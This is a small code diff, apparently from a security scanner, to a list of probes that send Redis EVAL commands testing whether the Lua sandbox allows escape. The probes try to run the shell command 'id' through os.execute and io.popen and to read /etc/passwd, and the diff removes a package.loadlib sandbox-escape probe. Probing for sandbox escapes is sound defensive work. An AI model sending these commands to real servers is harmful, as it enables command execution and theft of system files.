@@ -45,8 +45,7 @@ export const scripting: readonly Probe[] = [
     steps: [
       'EVAL "return os.execute(\'id\')" 0',
       "EVAL \"local f = io.popen('id', 'r'); return f:read()\" 0",
-      'EVAL "return tostring(package)" 0',
-      "EVAL \"local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io'); local io = io_l(); local f = io.popen('id', 'r'); local res = f:read('*a'); f:close(); return res\" 0",
+
       'EVAL "return require(\'os\')" 0',
       'EVAL "dofile(\'/etc/passwd\')" 0',
       'EVAL "x=1" 0',
